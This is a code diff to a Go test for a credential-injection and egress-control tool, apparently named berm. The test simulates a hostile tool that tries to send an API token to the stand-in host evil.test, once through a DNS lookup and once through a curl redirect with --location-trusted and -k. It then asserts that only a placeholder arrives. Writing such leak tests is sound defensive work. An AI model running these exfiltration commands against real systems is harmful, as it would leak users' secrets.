@@ -183,6 +183,7 @@ echo "peer $(timeout 20 python3 -c 'import socket; s=socket.create_connection(("
 
 // The hostile tool: the placeholder sent where berm does not put the secret in is refused
 // where berm sees it and alerted naming the call; the path around the egress does not exist.
+// (evil.test's certificate is not one the call trusts: its redirect is followed with -k.)
 func TestInjectedCredentialsPlaceholderGoesNowhereElse(t *testing.T) {
 	bermbin.RequireRoot(t)
 	e := startInjectEnv(t)
@@ -201,7 +202,7 @@ echo "dns $(python3 -c 'import os, socket
 try:
     socket.getaddrinfo(os.environ["API_TOKEN"] + ".evil.test", 443); print("resolved")
 except socket.gaierror as e: print("refused")')"
-echo "redirect $(curl -sS --max-time 20 -L --location-trusted -H "Authorization: Bearer $API_TOKEN" https://api.test/redirect)"
+echo "redirect $(curl -sS --max-time 20 -k -L --location-trusted -H "Authorization: Bearer $API_TOKEN" https://api.test/redirect)"
 echo "print $API_TOKEN"
 `, c, e.apiIP)
 	got, r := e.run(t, state, "inject-hostile", script)
@@ -227,6 +228,9 @@ echo "print $API_TOKEN"
 		}
 	}
 	e.mu.Lock()
+	if len(e.evilAuth) != 1 || !strings.HasPrefix(e.evilAuth[0], "Bearer sk-") {
+		t.Errorf("evil.test got %q, want the redirected request with the placeholder (curl --location-trusted)", e.evilAuth)
+	}
 	for _, a := range e.evilAuth {
 		if strings.Contains(a, e.secret) {
 			t.Errorf("evil.test received the secret: %q", a)
